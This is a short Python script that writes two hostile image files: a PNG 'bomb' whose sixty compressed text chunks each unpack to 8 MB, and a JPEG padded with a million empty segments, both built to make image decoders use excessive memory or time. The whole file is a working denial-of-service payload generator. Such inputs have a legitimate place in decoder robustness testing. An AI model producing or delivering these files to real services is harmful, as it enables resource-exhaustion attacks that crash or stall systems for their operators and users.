#!/usr/bin/env python3
"""Makes small files that ask a decoder for much memory: hostile_pictures.py JPEG FOLDER writes bomb.png and segments.jpg."""
import os
import struct
import sys
import zlib


def chunk(kind, data):
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


def main():
    source, folder = sys.argv[1:]
    os.makedirs(folder, exist_ok=True)
    # 64 x 64 grey pixels, and sixty texts that each unpack to 8 MB.
    header = struct.pack(">IIBBBBB", 64, 64, 8, 0, 0, 0, 0)
    text = b"Comment\0\0" + zlib.compress(bytes(8_000_000), 9)
    pixels = zlib.compress((b"\0" + bytes([200]) * 64) * 64)
    with open(os.path.join(folder, "bomb.png"), "wb") as png:
        png.write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"zTXt", text) * 60 + chunk(b"IDAT", pixels) + chunk(b"IEND", b""))
    # A million empty segments before the picture.
    with open(source, "rb") as jpeg:
        picture = jpeg.read()
    with open(os.path.join(folder, "segments.jpg"), "wb") as bomb:
        bomb.write(picture[:2] + b"\xff\xe1\0\2" * 1_000_000 + picture[2:])


main()
